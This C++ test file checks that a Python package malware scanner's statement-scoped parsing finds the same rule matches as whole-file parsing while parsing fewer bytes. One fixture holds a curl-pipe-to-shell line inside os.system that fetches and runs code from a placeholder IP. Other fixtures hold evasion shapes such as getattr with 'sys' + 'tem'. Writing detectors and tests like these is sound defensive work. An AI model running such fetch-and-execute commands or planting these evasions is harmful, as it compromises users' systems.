// Statement-scoped parsing (docs/architecture.md) must find exactly what a
// whole-file parse finds: the same rules on the same files, lines, columns
// and excerpts, on real inputs. And it must really parse less, or it would
// be a silent fallback everywhere.
#include <catch2/catch.hpp>

#include <chrono>
#include <filesystem>
#include <sstream>

#include <tree_sitter/api.h>

#include "engine/profile.hpp"
#include "engine/compiled_pack.hpp"
#include "engine/python_statements.hpp"
#include "engine/query.hpp"
#include "engine_test_util.hpp"
#include "support/artifact_builder.hpp"
#include "support/class_member_trees.hpp"
#include "support/fixtures.hpp"
#include "support/temp_dir.hpp"

using namespace canary;
using namespace canary::enginetest;

namespace {

const LoadedPack& default_pack() {
  static const LoadedPack lp =
      load_pack(PackSource{{test::source_dir() / "rules"}, {test::source_dir() / "stdlib-rules"}});
  return lp;
}

// Findings (rule, file, position, every line, excerpt) and errors. Not the
// number of files parsed: a file whose queries no statement admits is not
// parsed at all when scoped.
std::string outcome(const ArtifactReport& r) {
  std::ostringstream s;
  s << "verdict=" << to_string(r.verdict) << " score=" << r.score << "\n";
  for (const Finding& f : r.findings) {
    s << f.rule << " " << f.file << ":" << f.line << ":" << f.column << " [";
    for (uint32_t l : f.lines) s << l << ",";
    s << "] " << f.excerpt << "\n";
  }
  for (const std::string& e : r.errors) s << "error: " << e << "\n";
  return s.str();
}

// Scans `src` as the module pkg/m.py of a wheel with `lp`'s pack, statement-
// scoped or parsed whole, its profile into `profile`.
ArtifactReport scan_module(const LoadedPack& lp, const std::string& src, bool whole, ScanProfile& profile,
                           uint64_t max_parse_bytes = ScanOptions{}.max_parse_bytes) {
  ScanOptions opts;
  opts.whole_file_parse = whole;
  opts.profile = &profile;
  opts.max_parse_bytes = max_parse_bytes;
  auto reader = make_memory_reader(ArtifactKind::Wheel, {{"pkg/m.py", src}});
  return scan_reader({lp.pack.get()}, *reader, "<memory>", opts);
}

struct Compared {
  ScanProfile scoped, whole;
};

// Scans `artifact` both ways (and in test mode, which reads every query,
// when asked) and checks the outcomes are the same.
Compared compare_scans(const fs::path& artifact, bool test_mode) {
  const LoadedPack& lp = default_pack();
  REQUIRE(lp.pack);
  Compared c;
  ScanOptions opts;
  opts.include_private = opts.include_sets = test_mode;
  opts.profile = &c.scoped;
  const ArtifactReport scoped_report = scan_artifact(*lp.pack, artifact, opts);
  opts.whole_file_parse = true;
  opts.profile = &c.whole;
  const ArtifactReport whole_report = scan_artifact(*lp.pack, artifact, opts);
  INFO(artifact.string() << (test_mode ? " (test mode)" : ""));
  CHECK(outcome(scoped_report) == outcome(whole_report));
  CHECK(scoped_report.files_parsed <= whole_report.files_parsed);
  // A fallback parses the file's ranges and then the whole file.
  if (c.scoped.parse_fallbacks == 0) CHECK(c.scoped.parsed_bytes <= c.whole.parsed_bytes);
  return c;
}

}  // namespace

// Patterns that several tests below use: a module-level call whose first
// argument is an https URL (like MODULE_LEVEL_CALL_WITH_URL), and getattr
// with a name glued from strings (like COMPUTED_ATTRIBUTE_NAME).
constexpr const char* kModuleUrlCall = R"RULE(    $call = ast `((module (expression_statement (call function: (identifier) @f
                                                      arguments: (argument_list . (string) @u)) @match))
                  (#match? @u "^[\"']https://"))`
)RULE";
constexpr const char* kGetattrGlued = R"RULE(    $a = ast `((call function: (identifier) @g arguments: (argument_list . (_) . (_) @name)) @match
               (#eq? @g "getattr") (#match? @name "^[\"'][^\"'.]*[\"']\\s*[+]\\s*[\"']"))`
)RULE";

TEST_CASE("statement scope: the corpus replicas give the same findings as whole-file parsing", "[statement-scope]") {
  size_t artifacts = 0;
  uint64_t scoped = 0, whole = 0;
  for (auto& e : fs::directory_iterator(test::build_dir() / "corpus")) {
    const std::string name = e.path().filename().string();
    if (!(name.size() > 4 && (name.substr(name.size() - 4) == ".whl" || name.find(".tar.gz") != std::string::npos)))
      continue;
    for (bool test_mode : {false, true}) {
      Compared c = compare_scans(e.path(), test_mode);
      scoped += c.scoped.parsed_bytes;
      whole += c.whole.parsed_bytes;
    }
    ++artifacts;
  }
  CHECK(artifacts >= 8);
  CHECK(scoped < whole);
}

TEST_CASE("statement scope: the rule fixtures give the same findings as whole-file parsing", "[statement-scope]") {
  // Each rule directory as one directory artifact: its fixtures are real
  // malicious and benign shapes written for the rules' AST patterns.
  size_t dirs = 0;
  for (const char* top : {"rules", "stdlib-rules"})
    for (auto& e : fs::directory_iterator(test::source_dir() / top)) {
      if (!e.is_directory()) continue;
      for (bool test_mode : {false, true}) compare_scans(e.path(), test_mode);
      ++dirs;
    }
  CHECK(dirs >= 5);
}

TEST_CASE("statement scope: Debian's wheels give the same findings and parse fewer bytes", "[statement-scope]") {
  size_t wheels = 0;
  for (auto& e : fs::directory_iterator("/usr/share/python-wheels")) {
    const std::string name = e.path().filename().string();
    if (name.size() < 4 || name.substr(name.size() - 4) != ".whl") continue;
    Compared c = compare_scans(e.path(), false);
    INFO(name << ": parsed " << c.scoped.parsed_bytes << " bytes scoped, " << c.whole.parsed_bytes << " whole");
    CHECK(c.whole.parsed_bytes > 0);
    CHECK(c.scoped.parsed_bytes < c.whole.parsed_bytes);
    // Files none of whose statements a needed query admits are not parsed.
    CHECK(c.scoped.parse_file_bytes < c.whole.parse_file_bytes);
    ++wheels;
  }
  CHECK(wheels >= 2);
}

TEST_CASE("statement scope: a statement range with a syntax error falls back to a whole-file parse",
          "[statement-scope]") {
  // A syntax error the statement tokenizer does not see (it only follows
  // strings and brackets), in the statement that holds the call: the
  // range's tree has an error, as a mis-cut would give, so the file is
  // parsed whole again and finds what the whole-file parse finds.
  test::TempDir dir;
  put(dir.path(), "pkg/setup.py",
      "import os\n"
      "X = 1\n"
      "Y = = os.system(\"curl http://192.0.2.1/x | sh\")\n"
      "def helper():\n"
      "    return 2\n"
      "Z = [1,\n"
      "     2]\n");
  Compared c = compare_scans(dir.path() / "pkg", false);
  CHECK(c.scoped.parse_fallbacks >= 1);
  CHECK(c.whole.parse_fallbacks == 0);
}

TEST_CASE("statement scope: only the statements with the literal are parsed, at the file's own positions",
          "[statement-scope]") {
  TempPack tp({{"r.canary",
                rule("PY_EXEC", "  scope:\n    kind = python\n  patterns:\n"
                                "    $e = ast `((call function: (identifier) @f) @match (#eq? @f \"exec\"))`\n"
                                "  condition:\n    $e\n")}});
  LoadedPack lp = load_ok(tp);
  const std::string filler = "def helper(a, b):\n    return a + b\n\n";
  std::string before;
  for (int i = 0; i < 50; ++i) before += filler;
  // `exec` inside longer names (execute, my_exec, exec2) cannot be the
  // identifier `exec`: those statements are not parsed.
  const std::string src = "import os\n" + before + "def execute(q):\n    my_exec = exec2 = q\n" +
                          "x = '''\nexec(ignored)\n'''\n" + before + "if True:\n    exec(code)  # here\n" + before;
  ScanProfile scoped_profile, whole_profile;
  ArtifactReport scoped = scan_module(lp, src, false, scoped_profile);
  ArtifactReport whole = scan_module(lp, src, true, whole_profile);
  CHECK(outcome(scoped) == outcome(whole));
  REQUIRE(scoped.findings.size() == 1);
  const Finding& f = scoped.findings.front();
  CHECK(f.line == 1 + 150 + 2 + 3 + 150 + 2);  // the exec( call inside the if
  CHECK(f.column == 5);
  CHECK(f.excerpt.find("exec(code)  # here") != std::string::npos);
  CHECK(f.lines == std::vector<uint32_t>{f.line});
  CHECK(whole_profile.parsed_bytes == src.size());
  // The string statement (whose `exec(ignored)` is text) and the if statement.
  CHECK(scoped_profile.parsed_bytes == std::string("x = '''\nexec(ignored)\n'''\n").size() +
                                           std::string("if True:\n    exec(code)  # here\n").size());

  // Every occurrence inside a longer name: the file needs no parse at all.
  auto only_longer = make_memory_reader(ArtifactKind::Wheel, {{"pkg/n.py", "def execute():\n    pass\nexec_ = 1\n"}});
  ScanProfile none;
  ScanOptions opts;
  opts.profile = &none;
  ArtifactReport r = scan_reader({lp.pack.get()}, *only_longer, "<memory>", opts);
  CHECK(r.findings.empty());
  CHECK(none.parsed_bytes == 0);
}

TEST_CASE("statement scope: a module-rooted query skips statements whose first keyword rules them out",
          "[statement-scope]") {
  // Like MODULE_LEVEL_CALL_WITH_URL: a module-level call with a URL, in a
  // file that also calls urlopen (a second query, read only with the first).
  TempPack tp({{"r.canary", rule("URL_CALL", R"RULE(  scope:
    kind = python
  patterns:
)RULE" + std::string(kModuleUrlCall) + R"RULE(    $net = ast `((call function: (identifier) @f) @match (#eq? @f "urlopen"))`
  condition:
    $call and $net
)RULE")}});
  LoadedPack lp = load_ok(tp);
  // URLs in a docstring, a def, a class, a decorator and an if: none is in
  // a module-level expression statement that calls a function with it.
  const std::string inside = "'https://example.invalid/doc'\n"
                             "from urllib.request import urlopen\n"
                             "def fetch():\n    return urlopen(get('https://example.invalid/a'))\n"
                             "class C:\n    url = 'https://example.invalid/b'\n"
                             "@decorated('https://example.invalid/c')\ndef g(): pass\n"
                             "if True:\n    send('https://example.invalid/d')\n";
  ScanProfile scoped, whole;
  ArtifactReport r = scan_module(lp, inside, false, scoped), w = scan_module(lp, inside, true, whole);
  CHECK(r.findings.empty());
  CHECK(outcome(r) == outcome(w));
  // Only the docstring statement is an expression statement, and it holds
  // no call: the URL query is admitted there, so that statement and the
  // def with urlopen are parsed; the class, decorated def and if are not.
  CHECK(scoped.parsed_bytes == std::string("'https://example.invalid/doc'\n").size() +
                                   std::string("def fetch():\n    return urlopen(get('https://example.invalid/a'))\n").size());
  CHECK(whole.parsed_bytes == inside.size());

  // Without the docstring the URL query is admitted nowhere, and urlopen
  // alone cannot make the rule true: nothing is parsed.
  const std::string no_doc = inside.substr(inside.find('\n') + 1);
  ScanProfile none;
  ArtifactReport n = scan_module(lp, no_doc, false, none);
  CHECK(n.findings.empty());
  CHECK(none.parsed_bytes == 0);
  CHECK(n.files_parsed == 0);

  // With one module-level call: found, with the lines of both queries' matches.
  const std::string call = "send_info('https://example.invalid/e')\n";
  const std::string with_call = no_doc + call;
  ScanProfile scoped2, whole2;
  ArtifactReport r2 = scan_module(lp, with_call, false, scoped2), w2 = scan_module(lp, with_call, true, whole2);
  CHECK(outcome(r2) == outcome(w2));
  REQUIRE(r2.findings.size() == 1);
  CHECK(r2.findings.front().rule == "URL_CALL");
  CHECK(r2.findings.front().lines == std::vector<uint32_t>{3, 10});
  CHECK(scoped2.parsed_bytes ==
        std::string("def fetch():\n    return urlopen(get('https://example.invalid/a'))\n").size() + call.size());

  // A simple statement's keyword does not rule the line out: `;` can follow
  // it with an expression statement (a malicious package in the shared
  // corpus hides `import random, base64; ...; exec(...)` so).
  const std::string joined = no_doc + "import os; send_info('https://example.invalid/f')\n";
  ScanProfile scoped3, whole3;
  ArtifactReport r3 = scan_module(lp, joined, false, scoped3), w3 = scan_module(lp, joined, true, whole3);
  CHECK(outcome(r3) == outcome(w3));
  REQUIRE(r3.findings.size() == 1);
  CHECK(r3.findings.front().lines == std::vector<uint32_t>{3, 10});
}

TEST_CASE("statement scope: a big class is parsed as its header and the members that hold a match's clues",
          "[statement-scope]") {
  TempPack tp({{"r.canary", rule("ATTR", R"RULE(  scope:
    kind = python
  patterns:
)RULE" + std::string(kGetattrGlued) + R"RULE(    $top = ast `((module (class_definition body: (block (expression_statement (call function: (identifier) @f) @match))))
                 (#eq? @f "register"))`
  condition:
    $a or $top
)RULE")}});
  LoadedPack lp = load_ok(tp);
  std::string filler;
  for (int i = 0; i < 100; ++i)
    filler += "    def f" + std::to_string(i) + "(self, a):\n        return a + " + std::to_string(i) + "\n";
  // getattr in one method, the glued strings in another: no member holds
  // both, so nothing is parsed although the class holds both.
  const std::string header = "@decorate\nclass Big(Base):\n    '''Doc.'''\n";
  const std::string apart = header + "    def g(self):\n        return getattr(self, name)\n" + filler +
                            "    def h(self):\n        return 'a' + 'b'\n";
  ScanProfile scoped, whole;
  ArtifactReport r = scan_module(lp, apart, false, scoped), w = scan_module(lp, apart, true, whole);
  CHECK(outcome(r) == outcome(w));
  CHECK(r.findings.empty());
  CHECK(scoped.parsed_bytes == 0);
  CHECK(whole.parsed_bytes == apart.size());

  // Both in one method: the header and that method are parsed, and the
  // match is at its line in the file.
  const std::string method = "    def k(self):\n        return getattr(os, 'sys' + 'tem')\n";
  const std::string together = apart + method + "x = 1\n";
  ScanProfile scoped2, whole2;
  ArtifactReport r2 = scan_module(lp, together, false, scoped2), w2 = scan_module(lp, together, true, whole2);
  CHECK(outcome(r2) == outcome(w2));
  REQUIRE(r2.findings.size() == 1);
  CHECK(r2.findings.front().lines == std::vector<uint32_t>{209});
  CHECK(r2.findings.front().column == 16);
  // The header ends where the first member, the docstring, starts.
  CHECK(scoped2.parsed_bytes == std::string("@decorate\nclass Big(Base):\n").size() + method.size());
  CHECK(scoped2.parse_fallbacks == 0);

  // A member-level call under module > class > block (the module-level
  // rules' shape), and a match in the class header.
  const std::string reg = "    register(handler)\n";
  const std::string in_header = "class Big(getattr(m, 'Ba' + 'se')):\n" + filler + reg;
  ScanProfile scoped3, whole3;
  ArtifactReport r3 = scan_module(lp, in_header, false, scoped3), w3 = scan_module(lp, in_header, true, whole3);
  CHECK(outcome(r3) == outcome(w3));
  REQUIRE(r3.findings.size() == 1);
  CHECK(r3.findings.front().lines == std::vector<uint32_t>{1, 202});
  // The header and the call's member: the header is a clue's place too.
  CHECK(scoped3.parsed_bytes == std::string("class Big(getattr(m, 'Ba' + 'se')):\n").size() + reg.size());

  // Only the header holds a match: it is parsed with the first member, as
  // a class needs a body.
  const std::string only_header = "class Big(getattr(m, 'Ba' + 'se')):\n" + filler;
  ScanProfile scoped4, whole4;
  ArtifactReport r4 = scan_module(lp, only_header, false, scoped4), w4 = scan_module(lp, only_header, true, whole4);
  CHECK(outcome(r4) == outcome(w4));
  REQUIRE(r4.findings.size() == 1);
  CHECK(scoped4.parsed_bytes == std::string("class Big(getattr(m, 'Ba' + 'se')):\n").size() +
                                    std::string("    def f0(self, a):\n        return a + 0\n").size());
  CHECK(scoped4.parse_fallbacks == 0);

  // From fuzzing (fuzz_statements): tree-sitter, laxer than CPython, reads
  // `class Lax \n :body` as a class whose body follows the colon, which the
  // member cutter takes for a member line: the same findings either way.
  const std::string lax = "class Lax \n :getattr(m, 'Ba' + 'se')\n" + filler + "x = 1\n";
  ScanProfile scoped5, whole5;
  ArtifactReport r5 = scan_module(lp, lax, false, scoped5), w5 = scan_module(lp, lax, true, whole5);
  CHECK(outcome(r5) == outcome(w5));
  CHECK(scoped3.parse_fallbacks == 0);
}

TEST_CASE("statement scope: a statement longer than a parse window keeps every query, as a whole-file parse does",
          "[statement-scope]") {
  // Windows that start inside a long statement show its inner lines as
  // top-level statements, to the whole-file parse too: neither the first
  // keyword nor class members may narrow what such a statement admits.
  TempPack tp({{"r.canary", rule("URL_CALL", R"RULE(  scope:
    kind = python
  patterns:
)RULE" + std::string(kModuleUrlCall) + R"RULE(  condition:
    $call
)RULE")}});
  LoadedPack lp = load_ok(tp);
  std::string body;
  for (int i = 0; i < 40; ++i) body += "    x" + std::to_string(i) + " = " + std::to_string(i) + "\n";
  const std::string src = "import os\nwith context():\n" + body + "    send('https://example.invalid/a')\n" + body +
                          "class C:\n" + body + "    send('https://example.invalid/b')\n" + body;
  auto scan = [&](bool whole) {
    ScanProfile profile;
    return outcome(scan_module(lp, src, whole, profile, 256));
  };
  const std::string whole = scan(true);
  CHECK(scan(false) == whole);
  // The windows made the calls look top-level: the finding exists.
  CHECK(whole.find("URL_CALL") != std::string::npos);
}

TEST_CASE("statement scope: a class is parsed whole when one needed query wants it whole", "[statement-scope]") {
  // $a stays inside a member; $cls captures the class itself, whose text
  // runs over every member: with both needed, the class cannot be cut,
  // whichever of the two queries is admitted first.
  TempPack tp({{"r.canary", rule("ATTR_AND_CLASS", R"RULE(  scope:
    kind = python
  patterns:
    $cls = ast `((class_definition name: (identifier) @n) @match (#eq? @n "Big") (#match? @match "marker_xyz"))`
)RULE" + std::string(kGetattrGlued) + R"RULE(  condition:
    $a and $cls
)RULE")}});
  LoadedPack lp = load_ok(tp);
  std::string filler;
  for (int i = 0; i < 100; ++i)
    filler += "    def f" + std::to_string(i) + "(self, a):\n        return a + " + std::to_string(i) + "\n";
  const std::string src = "class Big:\n    def k(self):\n        return getattr(os, 'sys' + 'tem')\n" + filler +
                          "    tag = 'marker_xyz'\nx = 1\n";
  ScanProfile scoped, whole;
  ArtifactReport r = scan_module(lp, src, false, scoped), w = scan_module(lp, src, true, whole);
  CHECK(outcome(r) == outcome(w));
  REQUIRE(r.findings.size() == 1);
  CHECK(r.findings.front().rule == "ATTR_AND_CLASS");
  // The class whole (the `x = 1` statement holds no clue).
  CHECK(scoped.parsed_bytes == src.size() - std::string("x = 1\n").size());
}

TEST_CASE("statement scope: every predicate of a pattern must have its clue in the same statement",
          "[statement-scope]") {
  TempPack tp({{"r.canary", rule("URL_GET", R"RULE(  scope:
    kind = python
  patterns:
    $u = ast `((call function: (attribute attribute: (identifier) @f)
                     arguments: (argument_list . (string) @url)) @match
               (#any-of? @f "get" "post")
               (#match? @url "^[\"']https?://"))`
  condition:
    $u
)RULE")}});
  LoadedPack lp = load_ok(tp);
  // `get` and a URL, each in statements of their own: no statement can hold
  // a match, so nothing is parsed (a whole-file parse finds nothing either).
  const std::string apart = "value = settings.get(key)\n"
                            "HOME = \"https://example.invalid/\"\n"
                            "def f(s):\n    return s.post(data)\n";
  ScanProfile apart_scoped, apart_whole;
  CHECK(outcome(scan_module(lp, apart, false, apart_scoped)) == outcome(scan_module(lp, apart, true, apart_whole)));
  CHECK(apart_whole.parsed_bytes == apart.size());
  CHECK(apart_scoped.parsed_bytes == 0);
  // Both in one statement: that statement alone is parsed, and matches.
  const std::string call = "r = session.get(\"https://example.invalid/x\")\n";
  const std::string together = apart + call;
  ScanProfile scoped, whole;
  ArtifactReport r = scan_module(lp, together, false, scoped);
  CHECK(outcome(r) == outcome(scan_module(lp, together, true, whole)));
  REQUIRE(r.findings.size() == 1);
  CHECK(r.findings[0].line == 5);
  CHECK(scoped.parsed_bytes == call.size());
}

TEST_CASE("query scope: #eq? and #any-of? values are whole capture texts, #match? regexes are not",
          "[statement-scope]") {
  std::vector<QueryProblem> problems;
  auto exact = CompiledQuery::compile(
      "((keyword_argument name: (identifier) @f) @match (#any-of? @f \"exec\" \"eval\"))", problems);
  REQUIRE(exact);
  REQUIRE(exact->prefilter().clues.size() == 2);
  for (const PrefilterClue& c : exact->prefilter().clues) CHECK(c.kind == PrefilterClue::Kind::Name);
  auto regex = CompiledQuery::compile("((keyword_argument name: (identifier) @f) @match (#match? @f \"^exec\"))", problems);
  REQUIRE(regex);
  REQUIRE(regex->prefilter().clues.size() == 1);
  CHECK(regex->prefilter().clues[0].kind == PrefilterClue::Kind::Regex);
  CHECK(regex->prefilter().clues[0].text == "exec");
  // The same text, a name in one pattern and a regex in another: two clues.
  auto mixed = CompiledQuery::compile(
      "((keyword_argument name: (identifier) @f) @match (#eq? @f \"exec\"))\n"
      "((keyword_argument name: (identifier) @g) @match (#match? @g \"exec\"))",
      problems);
  REQUIRE(mixed);
  CHECK(describe(mixed->prefilter()) == "\"exec\" | /exec/");
  CHECK(problems.empty());
}

TEST_CASE("query scope: every query of the default pack stays in one top-level statement", "[statement-scope]") {
  // If a rule adds a query that may span statements, files that need it are
  // parsed whole again: correct, but slower; this test says which query.
  const LoadedPack& lp = default_pack();
  REQUIRE(lp.pack);
  REQUIRE(lp.pack->queries.size() > 40);
  for (const auto& q : lp.pack->queries) {
    INFO(q->text());
    CHECK(q->within_statement());
  }
}

TEST_CASE("statement scope: --max-scan-time also stops tree-sitter inside a file", "[statement-scope]") {
  TempPack tp({{"r.canary",
                rule("PY_SYSTEM", "  scope:\n    kind = python\n  patterns:\n"
                                  "    $e = ast `((call function: (attribute attribute: (identifier) @f)) @match "
                                  "(#eq? @f \"system\"))`\n"
                                  "  condition:\n    $e\n")}});
  LoadedPack lp = load_ok(tp);
  // 40 MB of calls: tree-sitter needs several seconds for them (about
  // 10 MB/s), the artifact has one. The parse (or, when the second runs
  // out while a window's query runs, that query) stops at the budget, in the
  // middle of the file, and says which limit stopped it.
  std::string calls = "import os\n";
  while (calls.size() < (40u << 20)) calls += "os.system(x)\n";
  ScanOptions opts;
  opts.limits.max_seconds = 1;
  opts.parse_timeout_ms = 600'000;
  auto reader = make_memory_reader(ArtifactKind::Wheel, {{"pkg/m.py", calls}});
  const auto t0 = std::chrono::steady_clock::now();
  ArtifactReport r = scan_reader({lp.pack.get()}, *reader, "<memory>", opts);
  const double seconds = std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
  INFO(outcome(r));
  bool stopped = false;
  for (const std::string& e : r.errors)
    if (e.find("Python parse stopped: the artifact's time ran out after 1 s (limit --max-scan-time); AST rules "
               "saw only the first ") != std::string::npos ||
        e.find("AST queries stopped: the artifact's time ran out after 1 s (limit --max-scan-time); AST results "
               "for this file may be partial") != std::string::npos)
      stopped = true;
  CHECK(stopped);
  CHECK(seconds < 30);  // not the whole parse: bounded by the budget plus one window's query
}


TEST_CASE("class members: a class's header with one member parses that member as the whole file does",
          "[statement-scope]") {
  // Every class of Debian's wheels, every member: tree-sitter given the
  // header and that member only (included ranges, as the scanner parses a
  // cut class) builds the same subtree at the same bytes, without errors.
  TSParser* parser = ts_parser_new();
  REQUIRE(ts_parser_set_language(parser, python_language()));
  size_t classes = 0, members = 0;
  for (auto& e : fs::directory_iterator("/usr/share/python-wheels")) {
    if (e.path().extension() != ".whl") continue;
    const test::ReadResult read = test::read_artifact(e.path());
    REQUIRE(read.ok);
    for (const auto& [entry, src] : read.entries) {
      if (entry.path.size() < 3 || entry.path.substr(entry.path.size() - 3) != ".py") continue;
      std::vector<LogicalLine> lines;
      const std::vector<uint32_t> starts = python_statement_starts(src, &lines);
      TSTree* whole = nullptr;
      for (size_t i = 0; i < starts.size(); ++i) {
        const uint32_t end = i + 1 < starts.size() ? starts[i + 1] : static_cast<uint32_t>(src.size());
        const std::vector<uint32_t> m = python_class_members(src, lines, starts[i], end);
        if (m.empty()) continue;
        if (!whole) whole = ts_parser_parse_string(parser, nullptr, src.data(), static_cast<uint32_t>(src.size()));
        REQUIRE(whole);
        ++classes;
        for (size_t k = 0; k < m.size(); ++k) {
          const uint32_t mend = k + 1 < m.size() ? m[k + 1] : end;
          // Offsets and points of the header and the member in the file.
          const TSRange ranges[2] = {{test::point_at(src, starts[i]), test::point_at(src, m[0]), starts[i], m[0]},
                                     {test::point_at(src, m[k]), test::point_at(src, mend), m[k], mend}};
          REQUIRE(ts_parser_set_included_ranges(parser, ranges, 2));
          TSTree* part = ts_parser_parse_string(parser, nullptr, src.data(), static_cast<uint32_t>(src.size()));
          ts_parser_set_included_ranges(parser, nullptr, 0);
          REQUIRE(part);
          INFO(e.path().filename().string() << " " << entry.path << " member at byte " << m[k]);
          CHECK_FALSE(ts_node_has_error(ts_tree_root_node(part)));
          // The member's first token.
          const uint32_t token = test::first_token(src, m[k]);
          const TSNode a = test::member_node(ts_tree_root_node(whole), token);
          const TSNode b = test::member_node(ts_tree_root_node(part), token);
          REQUIRE_FALSE(ts_node_is_null(a));
          REQUIRE_FALSE(ts_node_is_null(b));
          CHECK(ts_node_start_byte(a) == ts_node_start_byte(b));
          CHECK(ts_node_end_byte(a) == ts_node_end_byte(b));
          CHECK(test::node_sexp(a) == test::node_sexp(b));
          ts_tree_delete(part);
          ++members;
        }
      }
      if (whole) ts_tree_delete(whole);
    }
  }
  ts_parser_delete(parser);
  CHECK(classes > 100);
  CHECK(members > 1000);
}
